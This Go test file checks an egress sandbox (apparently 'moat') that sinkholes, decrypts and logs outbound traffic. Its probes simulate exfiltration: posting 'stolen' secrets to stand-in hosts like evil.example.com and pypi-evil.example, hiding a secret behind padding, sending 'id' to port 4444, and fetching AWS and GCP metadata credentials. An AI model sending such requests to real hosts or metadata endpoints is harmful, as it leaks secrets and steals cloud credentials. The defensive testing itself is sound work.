package egress

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/http2"

	"github.com/moat-sandbox/moat"
	"github.com/moat-sandbox/moat/internal/sandbox/netns"
)

// The stack changes routes and nftables, so it runs in a child of the
// test in new user and network namespaces: the test runner's network is
// never touched. The child starts the stack, runs one probe against it
// (as the program would), and prints the probe's result and the events.
const (
	childMode  = "EGRESS_TEST_MODE"
	childProbe = "EGRESS_TEST_PROBE"
)

type childReport struct {
	Result string       `json:"result"`
	Err    string       `json:"err"`
	Events []moat.Event `json:"events"`
}

func TestMain(m *testing.M) {
	if mode := os.Getenv(childMode); mode != "" {
		os.Exit(child(mode, os.Getenv(childProbe)))
	}
	os.Exit(m.Run())
}

func child(mode, probe string) int {
	if err := netns.LinkUp("lo"); err != nil {
		fmt.Fprintln(os.Stderr, "lo:", err)
		return 2
	}
	cfg, err := FromNetwork(moat.Network(mode))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	var rep childReport
	rec := NewRecorder(func(ev moat.Event) { rep.Events = append(rep.Events, ev) })
	var d Dialer = refuseAll{}
	if probe == "allow-name" {
		// The "outside" server lives on the child's 127.0.0.2; the test
		// dialer stands in for the parent and maps the name to it.
		ln, err := net.Listen("tcp", "127.0.0.2:0")
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		go func() {
			_ = http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "upstream "+r.URL.Path) }))
		}()
		d = nameDialer{"svc.example": ln.Addr().String()}
	}
	s, err := Start(cfg, rec, d)
	if err != nil {
		fmt.Fprintln(os.Stderr, "start:", err)
		return 2
	}
	stackCA = s.CAPEM()
	res, err := probes[probe]()
	rep.Result = res
	if err != nil {
		rep.Err = err.Error()
	}
	wait := 2 * time.Second
	if probe == "burst" {
		// As if the init ran only once the drain's time was spent.
		wait = 0
	}
	s.Close(wait)
	_ = json.NewEncoder(os.Stdout).Encode(&rep)
	return 0
}

type nameDialer map[string]string

func (m nameDialer) Dial(host string, port int) (net.Conn, error) {
	if port != 80 || m[host] == "" {
		return nil, fmt.Errorf("not allowed")
	}
	return net.Dial("tcp", m[host])
}

type refuseAll struct{}

func (refuseAll) Dial(string, int) (net.Conn, error) { return nil, fmt.Errorf("refused by test") }

func lookupA(name string) (string, error) {
	r := &net.Resolver{PreferGo: true, Dial: func(_ context.Context, network, _ string) (net.Conn, error) {
		return net.Dial(network, "127.0.0.53:53")
	}}
	addrs, err := r.LookupHost(context.Background(), name)
	if err != nil {
		return "", err
	}
	return strings.Join(addrs, ","), nil
}

// stackCA is the child's stack's CA certificate, as the sandbox's trust
// store holds it.
var stackCA []byte

// get does one HTTP request through the stack, trusting its CA, and
// returns the status and body.
func get(method, url string, body string, hdr ...string) (string, error) {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(stackCA)
	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: pool},
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			host, port, _ := net.SplitHostPort(addr)
			if net.ParseIP(host) == nil {
				a, err := lookupA(host)
				if err != nil {
					return nil, err
				}
				host = a
			}
			return net.Dial(network, net.JoinHostPort(host, port))
		}}}
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp.Status + " " + string(b), err
}

// get2 does one HTTP/2 request through the stack: over TLS with ALPN
// "h2" alone (a client that insists on HTTP/2), or, with plain, over TCP
// with prior knowledge (h2c). Its header and body are HPACK- and
// frame-coded: no byte search of the flow finds them.
func get2(plain bool, url, body string, hdr ...string) (string, error) {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(stackCA)
	dial := func(ctx context.Context, network, addr string, cfg *tls.Config) (net.Conn, error) {
		host, port, _ := net.SplitHostPort(addr)
		a, err := lookupA(host)
		if err != nil {
			return nil, err
		}
		c, err := net.Dial(network, net.JoinHostPort(a, port))
		if err != nil || plain {
			return c, err
		}
		cfg = cfg.Clone()
		cfg.ServerName = host
		tc := tls.Client(c, cfg)
		if err := tc.HandshakeContext(ctx); err != nil {
			c.Close()
			return nil, err
		}
		return tc, nil
	}
	tr := &http2.Transport{AllowHTTP: plain, TLSClientConfig: &tls.Config{RootCAs: pool}, DialTLSContext: dial}
	c := &http.Client{Timeout: 5 * time.Second, Transport: tr}
	req, err := http.NewRequest("POST", url, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp.Proto + " " + resp.Status + " " + string(b), err
}

var probes = map[string]func() (string, error){
	"h2c": func() (string, error) {
		return get2(true, "http://h2c-evil.example/up?k=1", "body=h2bodyvalue", "X-Token", "h2headervalue")
	},
	"h2": func() (string, error) {
		return get2(false, "https://h2-evil.example/up?k=2", "body=h2bodyvalue", "X-Token", "h2headervalue")
	},
	"https": func() (string, error) {
		return get("POST", "https://pypi-evil.example/x?k=1", "stolen=s3cr3tvalue")
	},
	"imds": func() (string, error) {
		tok, err := get("PUT", "http://169.254.169.254/latest/api/token", "", "X-aws-ec2-metadata-token-ttl-seconds", "21600")
		if err != nil {
			return "", err
		}
		role, err := get("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "", "X-aws-ec2-metadata-token", strings.TrimPrefix(tok, "200 OK "))
		if err != nil {
			return "", err
		}
		creds, err := get("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"+strings.TrimPrefix(role, "200 OK "), "")
		if err != nil {
			return "", err
		}
		gcp, err := get("GET", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "", "Metadata-Flavor", "Google")
		return creds + "\n" + gcp, err
	},
	"http": func() (string, error) {
		a, err := lookupA("evil.example.com")
		if err != nil {
			return "", err
		}
		c := &http.Client{Transport: &http.Transport{Dial: func(network, _ string) (net.Conn, error) {
			return net.Dial(network, net.JoinHostPort(a, "80"))
		}}, Timeout: 5 * time.Second}
		resp, err := c.Post("http://evil.example.com/steal?x=1", "text/plain", strings.NewReader("secret"))
		if err != nil {
			return "", err
		}
		resp.Body.Close()
		return resp.Status, nil
	},
	"tls": func() (string, error) {
		c, err := net.DialTimeout("tcp", "198.51.100.1:443", 3*time.Second)
		if err != nil {
			return "", err
		}
		tc := tls.Client(c, &tls.Config{ServerName: "bank.example"})
		err = tc.Handshake()
		return "", err
	},
	"burst": func() (string, error) {
		for i := range burstFlows {
			c, err := net.DialTimeout("tcp", fmt.Sprintf("203.0.113.9:%d", 5000+i), 3*time.Second)
			if err != nil {
				return "", err
			}
			_, _ = c.Write([]byte("x"))
			c.Close()
		}
		return "sent", nil
	},
	"raw": func() (string, error) {
		c, err := net.DialTimeout("tcp", "203.0.113.9:4444", 3*time.Second)
		if err != nil {
			return "", err
		}
		_, _ = c.Write([]byte("id\n"))
		c.Close()
		return "sent", nil
	},
	"padded-binary": func() (string, error) {
		c, err := net.DialTimeout("tcp", "203.0.113.9:4445", 3*time.Second)
		if err != nil {
			return "", err
		}
		// 100 KiB of bytes that escape to four characters each: within
		// MaxCapture bytes, past MaxCapture characters
		for i := 0; i < 100; i++ {
			_, _ = c.Write(bytes.Repeat([]byte{1}, 1024))
		}
		_, _ = c.Write([]byte("tail-secret"))
		c.Close()
		return "sent", nil
	},
	"padded": func() (string, error) {
		c, err := net.DialTimeout("tcp", "203.0.113.9:4444", 3*time.Second)
		if err != nil {
			return "", err
		}
		// in many writes, as a program sends packets
		for i := 0; i < 40; i++ {
			_, _ = c.Write(bytes.Repeat([]byte("A"), 1024))
		}
		_, _ = c.Write([]byte("tail-secret"))
		c.Close()
		return "sent", nil
	},
	"udp": func() (string, error) {
		c, err := net.Dial("udp", "198.51.100.7:9999")
		if err != nil {
			return "", err
		}
		_, err = c.Write([]byte("ping"))
		c.Close()
		time.Sleep(100 * time.Millisecond)
		return "sent", err
	},
	"dns-any": func() (string, error) {
		// A query straight to a public resolver is answered from there.
		r := &net.Resolver{PreferGo: true, Dial: func(_ context.Context, network, _ string) (net.Conn, error) {
			return net.Dial("udp", "8.8.8.8:53")
		}}
		addrs, err := r.LookupHost(context.Background(), "direct.example.org")
		return strings.Join(addrs, ","), err
	},
	"loopback": func() (string, error) {
		// 127.0.0.1 inside is the sandbox's own: nothing listens there.
		c, err := net.DialTimeout("tcp", "127.0.0.1:1", time.Second)
		if err == nil {
			c.Close()
			return "connected", nil
		}
		return "", err
	},
	"nxdomain": func() (string, error) { return lookupA("not-allowed.example") },
	"allow-name": func() (string, error) {
		a, err := lookupA("svc.example")
		if err != nil {
			return "", err
		}
		resp, err := http.Get("http://" + a + "/path")
		if err != nil {
			return "", err
		}
		b, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		http.DefaultClient.CloseIdleConnections()
		return string(b), err
	},
	"pipelined": pipelined,
	"refused": func() (string, error) {
		c, err := net.DialTimeout("tcp", "203.0.113.9:4444", 3*time.Second)
		if err != nil {
			return "", err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		_, err = c.Read(make([]byte, 1))
		return "", err
	},
}

func runChild(t *testing.T, mode, probe string) childReport {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), childMode+"="+mode, childProbe+"="+probe)
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Geteuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getegid(), Size: 1}},
	}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Start(); err != nil {
		t.Skipf("cannot create user and network namespaces: %v", err)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("child: %v: %s", err, stderr.String())
	}
	var rep childReport
	if err := json.Unmarshal(stdout.Bytes(), &rep); err != nil {
		t.Fatalf("child output %q: %v (stderr %s)", stdout.String(), err, stderr.String())
	}
	return rep
}

func find(evs []moat.Event, kind moat.Kind, addr string) *moat.Event {
	for i := range evs {
		if evs[i].Kind == kind && (addr == "" || evs[i].Addr == addr) {
			return &evs[i]
		}
	}
	return nil
}

func findDetail(evs []moat.Event, kind moat.Kind, prefix string) *moat.Event {
	for i := range evs {
		if evs[i].Kind == kind && strings.HasPrefix(evs[i].Detail, prefix) {
			return &evs[i]
		}
	}
	return nil
}

func TestSinkholeHTTP(t *testing.T) {
	rep := runChild(t, "sinkhole", "http")
	if rep.Err != "" || rep.Result != "200 OK" {
		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
	}
	d := findDetail(rep.Events, "dns", "sinkholed A ")
	if d == nil || d.Name != "evil.example.com" || !strings.HasPrefix(d.Detail, "sinkholed A 198.18.") {
		t.Fatalf("dns event: %+v", rep.Events)
	}
	c := find(rep.Events, "connect", "")
	if c == nil || c.Name != "evil.example.com" || c.Path != "/steal?x=1" || !strings.Contains(c.Detail, "host=evil.example.com") || !strings.Contains(c.Data, "secret") {
		t.Fatalf("connect event: %+v", rep.Events)
	}
}

func TestSinkholeTLS(t *testing.T) {
	rep := runChild(t, "sinkhole", "tls")
	c := find(rep.Events, "connect", "198.51.100.1:443")
	if c == nil || c.Name != "bank.example" || !strings.Contains(c.Detail, "tls sni=bank.example") {
		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
	}
}

// TestSinkholeHTTPS: an HTTPS request from a client that trusts the
// system store (the run's CA) reaches the sink, which reads it in clear:
// method, host, path and body are in the event.
func TestSinkholeHTTPS(t *testing.T) {
	rep := runChild(t, "sinkhole", "https")
	if rep.Err != "" || rep.Result != "200 OK " {
		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
	}
	c := findDetail(rep.Events, "connect", "sinkholed tcp tls sni=pypi-evil.example decrypted https POST")
	if c == nil || c.Name != "pypi-evil.example" || c.Path != "/x?k=1" || !strings.Contains(c.Data, "stolen=s3cr3tvalue") ||
		!strings.HasPrefix(c.Data, "POST /x?k=1 HTTP/1.1") {
		t.Fatalf("events: %+v", rep.Events)
	}
}

// TestSinkholeHTTP2: a client that speaks HTTP/2 alone, with prior
// knowledge over TCP (h2c) or over TLS with ALPN "h2" and nothing else,
// gets its answer, and the sink records each request decoded: method,
// authority, path, HPACK-coded headers and the DATA frames' body in clear.
// Before, the h2c request was kept as HPACK (a Huffman-coded header is
// no byte string of its value) and unanswered; the TLS handshake failed
// (no protocol in common): neither header nor body was seen.
func TestSinkholeHTTP2(t *testing.T) {
	for _, tc := range []struct{ probe, detail, path string }{
		{"h2c", "sinkholed tcp h2c http/2 POST host=h2c-evil.example", "/up?k=1"},
		{"h2", "sinkholed tcp tls sni=h2-evil.example decrypted https/2 POST host=h2-evil.example", "/up?k=2"},
	} {
		t.Run(tc.probe, func(t *testing.T) {
			rep := runChild(t, "sinkhole", tc.probe)
			if rep.Err != "" || rep.Result != "HTTP/2.0 200 OK " {
				t.Errorf("probe: %q %q", rep.Result, rep.Err)
			}
			c := findDetail(rep.Events, "connect", tc.detail)
			if c == nil || c.Path != tc.path || !strings.Contains(c.Data, "x-token: h2headervalue") || !strings.Contains(c.Data, "body=h2bodyvalue") {
				t.Fatalf("events: %+v", rep.Events)
			}
		})
	}
}

// TestSinkholeMetadata: 169.254.169.254 (IMDSv2: token, role, creds) and
// metadata.google.internal answer like a cloud instance, and the sink
// records that it served credentials.
func TestSinkholeMetadata(t *testing.T) {
	rep := runChild(t, "sinkhole", "imds")
	if rep.Err != "" || !strings.Contains(rep.Result, `"AccessKeyId": "ASIA`) || !strings.Contains(rep.Result, `"SecretAccessKey"`) ||
		!strings.Contains(rep.Result, `"access_token":"ya29.`) {
		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
	}
	var served []string
	for _, e := range rep.Events {
		if e.Kind == moat.KindMetadata && strings.HasPrefix(e.Detail, "served") {
			served = append(served, e.Path+" "+e.Detail)
		}
	}
	sort.Strings(served) // flows are recorded as they end
	if len(served) != 2 || !strings.HasPrefix(served[0], "/computeMetadata/") || !strings.Contains(served[0], "gcp-metadata-token") ||
		!strings.HasPrefix(served[1], "/latest/meta-data/iam/security-credentials/") || !strings.Contains(served[1], "imds-aws-secret-access-key") {
		t.Fatalf("metadata events %q in %+v", served, rep.Events)
	}
	if d := findDetail(rep.Events, "dns", "sinkholed A 169.254.169.254"); d == nil || d.Name != "metadata.google.internal" {
		t.Fatalf("dns: %+v", rep.Events)
	}
}

func TestSinkholeRaw(t *testing.T) {
	rep := runChild(t, "sinkhole", "raw")
	c := find(rep.Events, "connect", "203.0.113.9:4444")
	if rep.Err != "" || c == nil || c.Data != `id\n` || c.Detail != "sinkholed tcp" {
		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
	}
}

// The sink keeps a whole flow, not a prefix: a secret behind 40 KiB of
// padding is in the event.
func TestSinkholePadded(t *testing.T) {
	rep := runChild(t, "sinkhole", "padded")
	c := find(rep.Events, "connect", "203.0.113.9:4444")
	if rep.Err != "" || c == nil || !strings.HasSuffix(c.Data, strings.Repeat("A", 100)+"tail-secret") {
		t.Fatalf("events: %.300v (probe %q)", rep.Events, rep.Err)
	}
}

// Binary padding escapes to four characters a byte: the event still
// holds all of the flow's MaxCapture bytes (red team: a secret behind
// 33 KiB of \x01 was cut off at 128 Ki characters).
func TestSinkholePaddedBinary(t *testing.T) {
	rep := runChild(t, "sinkhole", "padded-binary")
	c := find(rep.Events, "connect", "203.0.113.9:4445")
	if rep.Err != "" || c == nil || !strings.HasSuffix(c.Data, strings.Repeat(`\x01`, 100)+"tail-secret") {
		if c != nil {
			t.Fatalf("data %d characters, ends %q (probe %q)", len(c.Data), c.Data[max(0, len(c.Data)-60):], rep.Err)
		}
		t.Fatalf("events: %.300v (probe %q)", rep.Events, rep.Err)
	}
}

// burstFlows is how many connections the burst probe makes.
const burstFlows = 64

// TestCloseLosesNoFlow: flows a program made just before it exited are
// recorded however little time the drain gets. Close(0) stands for an
// init that did not run until the drain's time was spent (CI, session
// 24: under load every TCP flow of framed_exfil.py was lost: the
// listeners closed on a full accept queue, and what the accept loop had
// taken was refused).
func TestCloseLosesNoFlow(t *testing.T) {
	rep := runChild(t, "sinkhole", "burst")
	if rep.Err != "" {
		t.Fatalf("probe: %s", rep.Err)
	}
	var missing []int
	for i := range burstFlows {
		if find(rep.Events, "connect", fmt.Sprintf("203.0.113.9:%d", 5000+i)) == nil {
			missing = append(missing, 5000+i)
		}
	}
	if len(missing) > 0 {
		t.Errorf("%d of %d flows unrecorded (ports %v); events: %.600v", len(missing), burstFlows, missing, rep.Events)
	}
}

func TestSinkholeUDP(t *testing.T) {
	rep := runChild(t, "sinkhole", "udp")
	c := find(rep.Events, "connect", "198.51.100.7:9999")
	if rep.Err != "" || c == nil || c.Data != "ping" || !strings.HasPrefix(c.Detail, "sinkholed udp") {
		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
	}
}

func TestSinkholeDNSAnywhere(t *testing.T) {
	rep := runChild(t, "sinkhole", "dns-any")
	if rep.Err != "" || !strings.HasPrefix(rep.Result, "198.18.") {
		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
	}
	if d := find(rep.Events, "dns", "8.8.8.8:53"); d == nil || d.Name != "direct.example.org" {
		t.Fatalf("events: %+v", rep.Events)
	}
}

func TestSinkholeLoopbackStaysInside(t *testing.T) {
	rep := runChild(t, "sinkhole", "loopback")
	if !strings.Contains(rep.Err, "refused") {
		t.Fatalf("connect to the sandbox's own 127.0.0.1:1: %q %q", rep.Result, rep.Err)
	}
	if len(rep.Events) != 0 {
		t.Fatalf("loopback traffic was intercepted: %+v", rep.Events)
	}
}

// TestSinkholePipelinedMemory: 16 kept-alive connections of 63
// pipelined 32 KiB requests (32 MiB sent) must not make the sink hold
// more than the run's capture budget and the flows' buffers. Each kept
// request held its whole 128 KiB read buffer (126 MiB here; 2 GiB with
// 256 flows of small requests, in moat's own process for a container).
func TestSinkholePipelinedMemory(t *testing.T) {
	rep := runChild(t, "sinkhole", "pipelined")
	if rep.Err != "" {
		t.Fatalf("probe: %q", rep.Err)
	}
	var mib int
	if _, err := fmt.Sscan(rep.Result, &mib); err != nil || mib > 24 {
		t.Fatalf("the sink held %s MiB for 16 flows of 63 requests (want at most 24: the capture budget and the flows' buffers)", rep.Result)
	}
	if n := len(rep.Events); n < MaxEvents {
		t.Fatalf("%d events, want one per request up to the recorder's %d", n, MaxEvents)
	}
	t.Logf("the sink held %s MiB", rep.Result)
}

func TestAllowName(t *testing.T) {
	rep := runChild(t, "allow=svc.example:80", "allow-name")
	if rep.Err != "" || rep.Result != "upstream /path" {
		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
	}
	if c := findDetail(rep.Events, "connect", "allowed tcp http GET"); c == nil || c.Name != "svc.example" || c.Path != "/path" {
		t.Fatalf("events: %+v", rep.Events)
	}
}

func TestAllowRefuses(t *testing.T) {
	rep := runChild(t, "allow=example.com:443", "nxdomain")
	if rep.Err == "" {
		t.Fatalf("name off the list resolved: %q", rep.Result)
	}
	if d := findDetail(rep.Events, "dns", "refused A NXDOMAIN"); d == nil || d.Name != "not-allowed.example" {
		t.Fatalf("events: %+v", rep.Events)
	}
	rep = runChild(t, "allow=example.com:443", "refused")
	if !strings.Contains(rep.Err, "reset") {
		t.Fatalf("connection off the list: %q %q", rep.Result, rep.Err)
	}
	if c := find(rep.Events, "connect", "203.0.113.9:4444"); c == nil || c.Detail != "refused tcp" {
		t.Fatalf("events: %+v", rep.Events)
	}
}

// pipelined holds 16 connections to the sink, each with 63 pipelined
// requests of 32 KiB answered and the connection kept alive, and returns
// how many MiB the heap grew by meanwhile (the sink runs in this process,
// as in moat's own for a container's sinkhole).
func pipelined() (string, error) {
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	base := heap()
	const conns, reqs = 16, maxRequests - 1
	body := strings.Repeat("x", 32<<10)
	req := "POST /p HTTP/1.1\r\nHost: flood.example\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	for i := 0; i < conns; i++ {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("203.0.113.%d:80", i+1), 3*time.Second)
		if err != nil {
			return "", err
		}
		open = append(open, c)
		_ = c.SetDeadline(time.Now().Add(15 * time.Second))
		go func() { _, _ = io.WriteString(c, strings.Repeat(req, reqs)) }()
		r := bufio.NewReader(c)
		for j := 0; j < reqs; j++ {
			resp, err := http.ReadResponse(r, nil)
			if err != nil {
				return "", fmt.Errorf("connection %d, answer %d: %w", i, j, err)
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}
	// Every request is answered and kept by its flow, each flow still open.
	return fmt.Sprint((heap() - min(base, heap())) >> 20), nil
}
